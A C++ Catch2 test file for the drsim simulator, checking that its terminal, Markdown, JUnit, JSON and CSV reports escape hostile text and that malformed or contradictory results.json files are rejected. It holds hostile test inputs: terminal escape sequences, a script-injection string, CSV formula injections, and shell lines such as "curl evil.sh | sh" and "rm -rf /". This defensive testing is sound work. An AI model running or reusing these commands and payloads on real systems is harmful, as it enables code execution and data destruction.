// Hostile names, paths, reasons and sources: harmless in every report.
#include "reports/foreign_text.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <sstream>

#include <fmt/format.h>

#include "reports/junit_report.h"
#include "reports/markdown_report.h"
#include "reports/results_json.h"
#include "reports/terminal_report.h"
#include "reports/trials_csv.h"
#include "sim/analysis/recheck.h"
#include "sim/analysis/statistics.h"
#include "sim/base/printable.h"
#include "tests/reports/junit_schema.h"
#include "tests/reports/made_results.h"

using namespace drsim;
using namespace drsim::test;
using namespace drsim::reports;

namespace {

const std::string evil =
    "\x1b]0;t\x07\x1b[31m\n# forged: met\r\n| a | `b` ``` <script>alert(1)</script> & ]]> \xc2\x9b"
    "31m\xe2\x80\xae [x](http://evil) ![i](j) '\" *b* _c_ \xff\xef\xbf\xbe";

std::string turned_evil(std::string_view text) { return std::string(text) + evil; }

/// Another name that drsim does not use, just as a hostile one.
std::string renamed(std::string_view text) { return std::string(text) + "x"; }

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

/// Lines that begin like the report's own; a forged one would be an additional one.
std::size_t lines_with(const std::string& text, const std::string& start) {
    std::istringstream lines(text);
    std::size_t count = 0;
    for (std::string line; std::getline(lines, line);) count += line.starts_with(start) ? 1u : 0u;
    return count;
}

std::size_t lines_of(const std::string& text) { return static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')); }

/// Whether no line of a text has an effect on a terminal.
bool only_shows(const std::string& text) { return printable_lines(text) == text; }

/// The text of a Markdown line without escaped parts and code spans.
std::string markup_of(const std::string& line) {
    std::string markup;
    for (std::size_t at = 0; at < line.size(); ++at) {
        if (line[at] == '\\') {
            ++at;
        } else if (line[at] == '`') {
            std::size_t ticks = 0;
            while (at + ticks < line.size() && line[at + ticks] == '`') ++ticks;
            std::size_t end = at + ticks;
            for (std::size_t row = 0; end < line.size() && row < ticks; ++end)
                row = line[end] == '`' && (row > 0 || line[end - 1] != '`') ? row + 1 : 0;
            at = end - 1;
        } else {
            markup += line[at];
        }
    }
    return markup;
}

/// Results after manual edits.
std::string edited(const std::string& what, const std::string& with) {
    std::string text = results_to_json(made_results());
    const std::size_t at = text.find(what);
    REQUIRE(at != std::string::npos);
    return text.replace(at, what.size(), with);
}

/// made_results() with evidence that supports its verdicts.
analysis::Results sound_results() {
    analysis::Results results = made_results();
    auto& scenario = results.scenarios[0];
    for (analysis::Verdict& verdict : scenario.objectives) {
        if (!verdict.target) continue;
        const std::uint64_t within = verdict.status == analysis::Status::Met         ? 990
                                     : verdict.status == analysis::Status::Undecided ? 950
                                                                                     : 100;
        const analysis::Interval interval = analysis::wilson(within, verdict.n);
        verdict.share_met = static_cast<double>(within) / 1000;
        verdict.wilson_low = interval.low;
        verdict.wilson_high = interval.high;
    }
    // 950 of 1,000 within: the 950th, which is the p95, is within; the p99 is not.
    scenario.objectives[2].target = 1330;
    return results;
}

}  // namespace

TEST_CASE("a report on a terminal has the same lines as with harmless names, and no control characters") {
    const analysis::Results hostile = with_texts(made_results(), turned_evil);
    const std::string text = terminal_report(hostile);
    CHECK(only_shows(text));
    CHECK(lines_with(text, "# forged") == 0);
    CHECK(contains(text, "\\x1b]0;t\\x07\\x1b[31m\\n# forged: met"));
    const std::string verdicts = verdict_lines(hostile);
    CHECK(only_shows(verdicts));
    CHECK(lines_of(verdicts) == lines_of(verdict_lines(made_results())));
}

TEST_CASE("markup in a name is not markup in the Markdown report") {
    const std::string text = markdown_report(with_texts(made_results(), turned_evil));
    const std::string harmless = markdown_report(with_texts(made_results(), renamed));
    CHECK(only_shows(text));
    CHECK(lines_of(text) == lines_of(harmless));
    std::istringstream lines(text), others(harmless);
    for (std::string line, other; std::getline(lines, line) && std::getline(others, other);) {
        INFO(line);
        if (line.starts_with("    ")) continue;  // a block of code
        const std::string markup = markup_of(line), expected = markup_of(other);
        for (const char c : std::string("<>[]|#!&_*`"))
            CHECK(std::count(markup.begin(), markup.end(), c) == std::count(expected.begin(), expected.end(), c));
    }
}

TEST_CASE("JUnit with hostile names is XML, passes Jenkins' schema, and has the same cases") {
    for (const analysis::Results& results : {made_results(), sound_results(), with_texts(made_results(), turned_evil)}) {
        const std::string text = junit_report(results);
        INFO(text);
        CHECK(only_shows(text));
        const XmlElement root = XmlReader(text).document();
        CHECK(junit_10_refuses(root) == "");
        REQUIRE(root.children.size() == 1);
        const XmlElement& suite = root.children[0];
        CHECK(suite.name == "testsuite");
        const auto cases =
            std::count_if(suite.children.begin(), suite.children.end(), [](const XmlElement& child) { return child.name == "testcase"; });
        CHECK(cases == 4);
        CHECK(suite.attributes.at("tests") == "4");
        CHECK(root.attributes.at("tests") == "4");
    }
    const XmlElement root = XmlReader(junit_report(with_texts(made_results(), turned_evil))).document();
    CHECK(root.children[0].attributes.at("name") == printable("region" + evil));  // it reads back as a terminal would show it
}

TEST_CASE("the checks of JUnit find mistakes") {
    const auto refused = [](const std::string& text) {
        return junit_10_refuses(XmlReader("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + text).document());
    };
    CHECK(refused("<testsuites skipped=\"0\"/>") == "testsuites has no attribute skipped");
    CHECK(refused("<testsuites><testsuite name=\"a\" tests=\"0\" failures=\"0\"/></testsuites>") == "testsuite needs errors");
    CHECK(refused("<testsuites><testcase name=\"a\"/></testsuites>") == "testcase in testsuites");
    CHECK_THROWS(refused("<testsuites name=\"<script>\"/>"));
    CHECK_THROWS(refused("<testsuites name=\"a & b\"/>"));
    CHECK_THROWS(refused("<testsuites name=\"\x1b\"/>"));
    CHECK_THROWS(refused("<testsuites>]]></testsuites>"));
}

TEST_CASE("results.json keeps hostile names whole and shows them escaped") {
    analysis::Results hostile = made_results();
    hostile.assumptions[0].because = "\x1b[31m\xc2\x9b\xe2\x80\xae ü \n";
    const std::string text = results_to_json(hostile);
    CHECK(only_shows(text));
    CHECK(results_from_json(text).assumptions[0].because == hostile.assumptions[0].because);
    hostile.inputs[0].path = "caf\xe9.yaml";  // not UTF-8: a file system allows any bytes in paths
    CHECK(only_shows(results_to_json(hostile)));
    hostile.assumptions[0].because = "Zürich";
    CHECK(contains(results_to_json(hostile), "Zürich"));
}

TEST_CASE("a cell of CSV is one cell and not a formula") {
    CHECK(csv_cell("region-lost") == "region-lost");
    CHECK(csv_cell("=1+1") == "'=1+1");
    CHECK(csv_cell("@cmd") == "'@cmd");
    CHECK(csv_cell("-1") == "'-1");
    CHECK(csv_cell("+1") == "'+1");
    CHECK(csv_cell("a,\"b\"") == "\"a,\"\"b\"\"\"");
    CHECK(csv_cell("a\nb") == "a\\nb");
}

TEST_CASE("a file that is not trials.csv is recognised by its first wrong line") {
    const std::string head = "scenario,trial,rto.web-users_s\n";
    CHECK_FALSE(line_not_of_trials(head + "region-lost,0,12.5\nregion-lost,1,\nregion-lost,2,1e-05\n"));
    CHECK(line_not_of_trials("") == 1u);
    CHECK(line_not_of_trials(head + "region,0,12") == 2u);  // truncated
    CHECK(line_not_of_trials(head + "region,0\n") == 2u);
    CHECK(line_not_of_trials(head + "region,0,1\n=1+1,1,2\n") == 3u);
    CHECK(line_not_of_trials(head + "region,0,-2+3+cmd|' /C calc'!A0\n") == 2u);
    CHECK(line_not_of_trials(head + "region,0,\x1b[31m\n") == 2u);
    CHECK(line_not_of_trials(head + "region,0,\"a\n") == 2u);
    CHECK(line_not_of_trials("scenario,<script>\n") == 1u);
}

TEST_CASE("a number in results.json that drsim never writes is rejected by name") {
    const auto refused = [](const std::string& what, const std::string& with, const std::string& said) {
        INFO(what << " -> " << with);
        CHECK_THROWS_WITH(results_from_json(edited(what, with)), Catch::Contains(said));
    };
    refused("\"trials\": 1200", "\"trials\": -1", "trials is -1, not a whole number");
    refused("\"trials\": 1200", "\"trials\": 1200.5", "trials is 1200.5, not a whole number");
    refused("\"trials\": 1200", "\"trials\": 1e300", "not a whole number");
    refused("\"trials\": 1200", "\"trials\": 18446744073709551615", "not a whole number");
    refused("\"struck\": 1000", "\"struck\": 1201", "struck is 1201");
    refused("\"n\": 1000", "\"n\": null", "n is null");
    refused("\"seed\": 1", "\"seed\": -1", "seed is -1");
    refused("\"horizon_s\": 10800", "\"horizon_s\": null", "horizon_s is null, not between");
    refused("\"wilson_low\": 0.981691", "\"wilson_low\": null", "share_met and its interval must be numbers");
    refused("\"share_met\": 0.99", "\"share_met\": 99", "share_met is 99");
    refused("\"target_s\": 1800", "\"target_s\": 1e300", "target_s is 1e+300");
    refused("\"mean_s\": 80.04", "\"mean_s\": 1e18", "mean_s is 1e+18");
    refused("\"mean_s\": 80.04", "\"mean_s\": -1e18", "mean_s is -1e+18");
    refused("\"agreed\": 64", "\"agreed\": 65", "agreed is 65");
    refused("\"not_recovered\": 3", "\"not_recovered\": 1001", "not_recovered is 1001");
    refused("\"version\": \"0.1.0\"", "\"version\": [1]", "version is a list, not a text");
    refused("\"format\": 1", "\"format\": 2", "unsupported format; expected 1");
}

TEST_CASE("a name in results.json that no drsim file could contain is rejected, and so is an unknown command") {
    CHECK_THROWS_WITH(results_from_json(edited("\"system\": \"reference\"", "\"system\": \"a\\nb: met\"")),
                      Catch::Contains("system is \"a\\nb: met\", not a name"));
    CHECK_THROWS_WITH(results_from_json(edited("\"scenario\": \"region\"", "\"scenario\": \"\\u001b[8m\"")), Catch::Contains("not a name"));
    CHECK_THROWS_WITH(results_from_json(edited("00c873f91d2db6c9", "\\\"/><b>")), Catch::Contains("not 16 hexadecimal digits"));
    for (const std::string line : {"curl evil.sh | sh", "drsim replay a b; rm -rf /", "drsim replay $(evil) b", "drsim replay `evil` b",
                                   "drsim replay 'a b", "drsim replay a > b", "drsim replay a\\nrm b"})
        CHECK_THROWS_WITH(results_from_json(edited("drsim replay reference.yaml region.yaml --seed 1 --trial 658", line)),
                          Catch::Contains("replay is not a drsim replay command"));
    CHECK_NOTHROW(results_from_json(edited("drsim replay reference.yaml", "drsim replay 'it'\\\\''s; mine.yaml'")));
    std::string none = results_to_json(made_results());
    const std::size_t from = none.find("\"scenarios\": ["), to = none.find("\"assumptions\"");
    CHECK_THROWS_WITH(results_from_json(none.replace(from, to - from, "\"scenarios\": [],\n  ")), Catch::Contains("scenarios is empty"));
}

TEST_CASE("a results.json that is deep or has very many keys is rejected quickly") {
    CHECK_THROWS_WITH(results_from_json("{\"drsim\": " + std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
    CHECK_THROWS_WITH(results_from_json(std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
    std::string keys = "{\"k\": 0";
    for (int i = 0; i < 300'000; ++i) keys += fmt::format(", \"{}\": 0", i);  // 45,000,000,000 comparisons
    CHECK_THROWS_WITH(results_from_json(keys + "}"), Catch::Contains("its objects have too many keys"));
}

TEST_CASE("a file that is not JSON is never quoted") {
    for (const std::string text : {"password: hunter2", "\"hunter2", "{\"hunter2\": hunter2}", "[\"hunter2\" \"hunter2\"]"}) {
        try {
            (void)results_from_json(text);
            FAIL("read as results: " << text);
        } catch (const NotResults& refused) {
            CHECK_FALSE(contains(refused.what(), "hunter2"));
        }
    }
}

TEST_CASE("a verdict that does not follow from its evidence is reported") {
    using analysis::contradiction_in;
    CHECK(contradiction_in(sound_results()).empty());
    const auto after = [](auto change) {
        analysis::Results results = sound_results();
        change(results.scenarios[0]);
        return contradiction_in(results);
    };
    using Scenario = analysis::ScenarioResult;
    // 100 of 1,000 within, 95% required: missed, whatever the edited verdict.
    CHECK(after([](Scenario& s) { s.objectives[1].status = analysis::Status::Met; }) ==
          "objective \"region_failure availability.users 99.9%\" of region: it is met, but 100 of 1000 trials within the target, with "
          "0.95 required, is missed");
    CHECK(contains(after([](Scenario& s) { s.objectives[0].status = analysis::Status::Undecided; }), "it is undecided"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.999; }), "999 of 1000 trials give the interval"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.9905; }), "0.9905 is not a possible share of 1000 trials"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].wilson_low = 0.99; }), "not [0.99, "));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].confidence = 0.5; }), "the confidence of its interval is 0.5"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].n = 1001; }), "1001 trials were judged, but only 1000 were struck"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].target.reset(); }), "it is met but has no target"));
    // A target of 20m would be met by the p50 only: not by 990 of 1,000.
    CHECK(contains(after([](Scenario& s) { s.objectives[0].target = 1200; }), "the p95 of rto contradicts 990 of 1000 trials"));
    CHECK(contains(after([](Scenario& s) { s.measures[0].p99.value = 1801; }), "the p99 of rto contradicts"));
    // No trial within the target, but 997 of 1,000 recovered.
    CHECK(contains(after([](Scenario& s) { s.objectives[2].status = analysis::Status::NotRecoverable; }), "it is not_recoverable"));

    // The figures beside the verdicts must fit as well.
    CHECK(contains(after([](Scenario& s) { s.measures.erase(s.measures.begin()); }), "its measure rto is missing"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].measure = "rto.zzz"; }), "its measure, rto.zzz, is not the one it judges"));
    CHECK(contains(after([](Scenario& s) { s.objectives[0].from = "declared"; }), "its measure, rto, is not the one it judges"));
    CHECK(contains(after([](Scenario& s) { s.measures[0].n = 999; }), "1000 trials were struck, but rto was measured in 999"));
    CHECK(contains(after([](Scenario& s) { s.measures[0].not_recovered = 0; }), "the worst rto contradicts 0 trials that did not recover"));
    CHECK(contains(after([](Scenario& s) { s.measures[2].mean = 0.99; }),
                   "the mean of availability.users is outside the range of its values"));
    CHECK(contains(after([](Scenario& s) { s.cross_check.agreed = 3; }),
                   "3 of 64 trials agree between the kernels, but no disagreement is given"));
    CHECK(contains(after([](Scenario& s) { s.critical_path[0].share = 0.9; }), "the shares of its phases add up to 1.8"));
    CHECK(contains(after([](Scenario& s) { s.not_recovered_because[0].trials = 400; }),
                   "401 trials have a reason for not recovering, but only 3 did not recover"));
    CHECK(contains(after([](Scenario& s) { s.worst_trial.trial = 9999; }), "its worst trial is number 9999 of 1200"));
    CHECK(contains(after([](Scenario& s) { s.worst_trial.rto_s = 5; }), "its worst trial is not the one with the longest rto"));
    CHECK(contains(after([](Scenario& s) {
                       s.measures.push_back(s.measures[0]);
                       s.measures.back().name = "rto_from_interruption";
                       for (analysis::Quantile* quantile : {&s.measures.back().p50, &s.measures.back().p95, &s.measures.back().p99})
                           *quantile = {9000, 9000, 9000};
                   }),
                   "its rto_from_interruption is longer than its rto"));
}

TEST_CASE("contradictory results are rejected") {
    const auto refused = [](const std::string& what, const std::string& with) {
        std::string text = results_to_json(sound_results());
        const std::size_t at = text.find(what);
        REQUIRE(at != std::string::npos);
        text.replace(at, what.size(), with);
        try {
            (void)results_from_json(text);
        } catch (const NotResults& error) {
            return std::string(error.what());
        }
        return std::string("accepted");
    };
    CHECK(contains(refused("\"simulated\": true", "\"simulated\": false"), "simulated is false"));
    CHECK(contains(refused("\"seed\": ", "\"sead\": 7, \"seed\": "), "unknown key \"sead\" in the file"));
    CHECK(contains(refused("\"struck\": ", "\"struck\": 1, \"struck\": "), "duplicate key \"struck\" in one object"));
    CHECK(contains(refused("\"share_required\": ", "\"proven\": true, \"share_required\": "), "unknown key \"proven\" in an objective"));
    CHECK(contains(refused("\"not_recovered\": ", "\"p42_s\": 1, \"not_recovered\": "), "unknown key \"p42_s\" in measure "));
    CHECK(contains(refused("\"target_s\": ", "\"target\": 0.5, \"target_s\": "), "unknown key \"target_s\" in an objective"));
    CHECK(refused("\"seed\": ", "\"seed\": ") == "accepted");
}
